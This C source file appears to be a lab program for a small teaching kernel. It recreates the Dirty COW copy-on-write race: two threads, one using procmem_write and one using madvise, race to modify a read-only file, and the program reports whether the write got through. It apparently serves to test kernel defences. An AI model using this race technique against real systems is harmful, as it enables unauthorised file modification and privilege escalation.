// dirtycow [-t SECONDS] [FILE]: tries to change a file that it may only read (labs/dirtycow).
//
// The file is mapped privately and read-only. One thread writes into the mapping as a debugger
// does, with procmem_write: each write must go to a copy of the page. A second thread throws the
// copy away, again and again. The main thread looks whether the file has changed.
#include "kernel/fcntl.h"
#include "kernel/riscv.h"
#include "user/lib/thread.h"
#include "user/lib/util.h"

#define USAGE    "dirtycow [-t SECONDS] [FILE]"
#define OUR_FILE "dirtycow.tmp"

static char *page;      // the first page of the file, mapped
static char first;      // the first byte of the file
static int stop, tries; // atomic

static int stopped(void) { return __atomic_load_n(&stop, __ATOMIC_RELAXED); }

static int write_from_outside(void *changed)
{
    while (!stopped()) {
        if (procmem_write(getpid(), page, changed, 1) != 1)
            return errno;
        __atomic_fetch_add(&tries, 1, __ATOMIC_RELAXED);
    }
    return 0;
}

static int throw_copies_away(void *none)
{
    (void)none;
    while (!stopped())
        if (madvise(page, PGSIZE, MADV_DONTNEED) < 0)
            return errno;
    return 0;
}

static char first_byte(int fd)
{
    char c;
    if (lseek(fd, 0, SEEK_SET) < 0 || read(fd, &c, 1) != 1)
        fail("dirtycow: read");
    return c;
}

// Reads the file again and again until it has changed or the time is over. Returns whether it has
// changed.
static int watch_file(int fd, int seconds)
{
    int end = uptime() + seconds * 100;
    while (uptime() < end) {
        if (first_byte(fd) != first)
            return 1;
        pause(1);
    }
    return first_byte(fd) != first;
}

// Waits for a thread. Its status is the error number of the call that has failed; 0: none has.
static void end_thread(struct thread *t, const char *call)
{
    int err;

    if (thread_join(t, &err) < 0)
        fail("dirtycow: join");
    if (err) {
        errno = err;
        fail("dirtycow: %s", call);
    }
}

static int attack(int fd, int seconds)
{
    struct thread writer, thrower;
    char changed = first == '#' ? '!' : '#';

    if (thread_create(&writer, write_from_outside, &changed) < 0 ||
        thread_create(&thrower, throw_copies_away, NULL) < 0)
        fail("dirtycow: cannot start a thread");

    int dirty = watch_file(fd, seconds);
    __atomic_store_n(&stop, 1, __ATOMIC_RELAXED);
    end_thread(&writer, "procmem_write");
    end_thread(&thrower, "madvise");
    return dirty;
}

static const char *make_own_file(void)
{
    int fd = open(OUR_FILE, O_CREATE | O_WRONLY | O_TRUNC);
    if (fd < 0 || write_all(fd, "read-only\n", 10) < 0)
        fail("dirtycow: %s", OUR_FILE);
    close(fd);
    return OUR_FILE;
}

int main(int argc, char **argv)
{
    long seconds = 10;
    int i = 1;

    if (argc > 2 && strcmp(argv[1], "-t") == 0) {
        if (parse_long(argv[2], &seconds) < 0 || seconds < 1 || seconds > 100000)
            usage(USAGE);
        i = 3;
    }
    if (argc > i + 1)
        usage(USAGE);
    if (i < argc)
        refuse_option(argv[i], USAGE);

    // Without a FILE it attacks one of its own.
    const char *name = i < argc ? argv[i] : make_own_file();
    int fd = open(name, O_RDONLY);
    if (fd < 0)
        fail("dirtycow: %s", name);
    first = first_byte(fd);
    page = mmap(NULL, PGSIZE, PROT_READ, MAP_PRIVATE, fd, 0);
    if (page == MAP_FAILED)
        fail("dirtycow: mmap");

    int began = uptime(), dirty = attack(fd, seconds);
    if (dirty)
        printf("dirtycow: the file was changed after %d tries, %d.%02d seconds\n", tries,
               (uptime() - began) / 100, (uptime() - began) % 100);
    else
        printf("dirtycow: not changed in %ld seconds, %d tries\n", seconds, tries);
    if (i == argc)
        unlink(OUR_FILE);
    return dirty;
}
